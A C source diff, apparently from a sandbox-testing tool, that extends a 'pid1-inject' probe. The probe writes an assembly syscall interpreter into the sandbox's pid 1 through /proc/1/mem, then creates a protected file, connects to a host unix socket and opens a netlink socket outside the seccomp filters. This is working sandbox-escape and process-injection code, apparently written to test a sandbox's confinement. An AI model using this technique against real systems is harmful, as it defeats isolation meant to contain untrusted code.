@@ -21,6 +21,7 @@
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/timex.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -513,46 +514,74 @@ static int op_abi(char **a, int n) {
 
 /* ---- pid 1 of the sandbox ---- */
 
-/* Position-independent code to run inside the sandbox's pid 1: try a
- * syscall the command's seccomp filter denies (socket(AF_NETLINK)), say on
- * pid 1's stdout what happened, and exit. */
+/* Position-independent code to run inside the sandbox's pid 1: a tiny
+ * interpreter for a table of syscalls that follows the code in the blob.
+ * Each entry is 8 quadwords: nr, flags, a0..a5; flags bit 0: a0 = the saved
+ * result, bit 1: save this result.  nr -1 ends the table; then exit_group(0). */
 extern const unsigned char rf_pid1_code_start[], rf_pid1_code_end[];
 __asm__(".pushsection .rodata\n"
         ".globl rf_pid1_code_start\n"
         ".globl rf_pid1_code_end\n"
         "rf_pid1_code_start:\n"
-        "  mov $16, %edi\n"  /* AF_NETLINK */
-        "  mov $3, %esi\n"   /* SOCK_RAW */
-        "  xor %edx, %edx\n" /* NETLINK_ROUTE */
-        "  mov $41, %eax\n"  /* socket */
+        "  lea rf_pid1_code_end(%rip), %rbx\n"
+        "1:\n"
+        "  mov (%rbx), %rax\n"
+        "  cmp $-1, %rax\n"
+        "  je 9f\n"
+        "  mov 8(%rbx), %r12\n"
+        "  mov 16(%rbx), %rdi\n"
+        "  mov 24(%rbx), %rsi\n"
+        "  mov 32(%rbx), %rdx\n"
+        "  mov 40(%rbx), %r10\n"
+        "  mov 48(%rbx), %r8\n"
+        "  mov 56(%rbx), %r9\n"
+        "  test $1, %r12\n"
+        "  jz 2f\n"
+        "  mov %r13, %rdi\n"
+        "2:\n"
         "  syscall\n"
-        "  test %rax, %rax\n"
-        "  js 10f\n"
-        "  lea 20f(%rip), %rsi\n"
-        "  mov $(21f - 20f), %edx\n"
-        "  jmp 11f\n"
-        "10:\n"
-        "  lea 30f(%rip), %rsi\n"
-        "  mov $(31f - 30f), %edx\n"
-        "11:\n"
-        "  mov $1, %edi\n"
-        "  mov $1, %eax\n" /* write(1, msg, len) */
-        "  syscall\n"
+        "  test $2, %r12\n"
+        "  jz 3f\n"
+        "  mov %rax, %r13\n"
+        "3:\n"
+        "  add $64, %rbx\n"
+        "  jmp 1b\n"
+        "9:\n"
         "  xor %edi, %edi\n"
-        "  mov $231, %eax\n" /* exit_group(0) */
+        "  mov $231, %eax\n"
         "  syscall\n"
-        "20: .ascii \"RF-PID1-INJECTED netlink-socket-created-without-seccomp\\n\"\n"
-        "21:\n"
-        "30: .ascii \"RF-PID1-INJECTED netlink-socket-refused\\n\"\n"
-        "31:\n"
         "rf_pid1_code_end:\n"
         ".popsection\n");
 
-/* pid1-inject: the sandbox's pid 1 (bwrap's reaper) runs without the
- * command's seccomp filter.  If /proc/1/mem is writable, overwrite the code
- * pid 1 returns to from its wait and make it reap a child. */
+typedef struct {
+  unsigned char buf[4096];
+  size_t code_len, n_entries, data_used;
+  unsigned long base; /* where the blob will live in pid 1 */
+} pid1_blob;
+
+#define PID1_MAX_ENTRIES 16
+
+static unsigned long blob_data(pid1_blob *b, const void *data, size_t len) {
+  size_t off = b->code_len + PID1_MAX_ENTRIES * 64 + b->data_used;
+  memcpy(b->buf + off, data, len);
+  b->data_used += (len + 15) & ~(size_t)15;
+  return b->base + off;
+}
+
+static void blob_call(pid1_blob *b, long nr, long flags, long a0, long a1, long a2, long a3) {
+  uint64_t *e = (uint64_t *)(b->buf + b->code_len + b->n_entries * 64);
+  uint64_t vals[8] = {(uint64_t)nr, (uint64_t)flags, (uint64_t)a0, (uint64_t)a1, (uint64_t)a2, (uint64_t)a3, 0, 0};
+  memcpy(e, vals, sizeof(vals));
+  b->n_entries++;
+}
+
+/* pid1-inject PROTECTED_FILE HOST_SOCKET: the sandbox's pid 1 (bwrap's
+ * reaper) runs without the command's seccomp filters.  If /proc/1/mem is
+ * writable, overwrite the code pid 1 returns to from its wait with a
+ * program that creates PROTECTED_FILE (a protected name that does not exist),
+ * connects to the host unix socket HOST_SOCKET, and opens a netlink socket;
+ * then make pid 1 reap a child so that it runs. */
 static int op_pid1_inject(char **a, int n) {
-  (void)a;
   (void)n;
   char line[512] = "";
   int fd = open("/proc/1/syscall", O_RDONLY | O_CLOEXEC);
@@ -581,14 +610,57 @@ static int op_pid1_inject(char **a, int n) {
   }
   unsigned long pc = vals[8];
   rf_ok("pid1-syscall", "pid 1 waits in syscall %lu, returns to %#lx", vals[0], pc);
+
+  static pid1_blob b;
+  memset(&b, 0, sizeof(b));
+  b.base = pc;
+  b.code_len = (size_t)(rf_pid1_code_end - rf_pid1_code_start);
+  memcpy(b.buf, rf_pid1_code_start, b.code_len);
+  static const char hello[] = "RF-PID1-INJECTED code runs in pid 1, outside the seccomp filters\n";
+  static const char envrc[] = "echo written-by-pid-1\n";
+  static const char hostmsg[] = "RF-PID1-HOST-SOCKET\n";
+  struct sockaddr_un sun = {.sun_family = AF_UNIX};
+  snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", a[1]);
+  unsigned long a_hello = blob_data(&b, hello, sizeof(hello));
+  unsigned long a_path = blob_data(&b, a[0], strlen(a[0]) + 1);
+  unsigned long a_envrc = blob_data(&b, envrc, sizeof(envrc));
+  unsigned long a_sun = blob_data(&b, &sun, sizeof(sun));
+  unsigned long a_hostmsg = blob_data(&b, hostmsg, sizeof(hostmsg));
+  blob_call(&b, SYS_write, 0, 1, (long)a_hello, sizeof(hello) - 1, 0);
+  blob_call(&b, SYS_open, 2, (long)a_path, O_WRONLY | O_CREAT | O_TRUNC, 0644, 0);
+  blob_call(&b, SYS_write, 1, 0, (long)a_envrc, sizeof(envrc) - 1, 0);
+  blob_call(&b, SYS_socket, 2, AF_UNIX, SOCK_STREAM, 0, 0);
+  blob_call(&b, SYS_connect, 1, 0, (long)a_sun, sizeof(sun), 0);
+  blob_call(&b, SYS_write, 1, 0, (long)a_hostmsg, sizeof(hostmsg) - 1, 0);
+  blob_call(&b, SYS_socket, 2, AF_NETLINK, SOCK_RAW, 0, 0);
+  blob_call(&b, -1, 0, 0, 0, 0, 0);
+  size_t size = b.code_len + PID1_MAX_ENTRIES * 64 + b.data_used;
+
+  /* The blob must fit in the mapping that holds pc. */
+  FILE *maps = fopen("/proc/1/maps", "re");
+  int fits = 0;
+  if (maps) {
+    char mline[512];
+    while (fgets(mline, sizeof(mline), maps)) {
+      unsigned long lo, hi;
+      if (sscanf(mline, "%lx-%lx", &lo, &hi) == 2 && pc >= lo && pc < hi) {
+        fits = pc + size <= hi;
+        break;
+      }
+    }
+    fclose(maps);
+  }
+  if (!fits) {
+    rf_info("pid1-inject", "the program (%zu bytes) does not fit after %#lx", size, pc);
+    return 0;
+  }
   int mem = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
   if (mem < 0) {
     rf_err("pid1-mem-open", errno, "/proc/1/mem");
     return 0;
   }
   rf_ok("pid1-mem-open", "/proc/1/mem opened for writing");
-  size_t size = (size_t)(rf_pid1_code_end - rf_pid1_code_start);
-  ssize_t w = pwrite(mem, rf_pid1_code_start, size, (off_t)pc);
+  ssize_t w = pwrite(mem, b.buf, size, (off_t)pc);
   close(mem);
   if (w != (ssize_t)size) {
     rf_err("pid1-mem-write", errno, "%zu bytes at %#lx", size, pc);
@@ -651,7 +723,7 @@ const rf_op rf_kernel_ops[] = {
     {"mount-tricks", 2, op_mount_tricks, "PROTECTED_FILE OUTSIDE_FILE  remount/umount/open_tree"},
     {"proc-sys", 0, op_proc_sys, "  host sysctls: open for write; core_pattern written back"},
     {"abi", 0, op_abi, "  forbidden calls via int 0x80 and x32"},
-    {"pid1-inject", 0, op_pid1_inject, "  run code in the sandbox's pid 1 through /proc/1/mem"},
+    {"pid1-inject", 2, op_pid1_inject, "PROTECTED_FILE HOST_SOCKET  run code in pid 1 via /proc/1/mem"},
     {"status", 0, op_seccomp_status, "  capabilities, no_new_privs, seccomp mode"},
     {NULL, 0, NULL, NULL},
 };
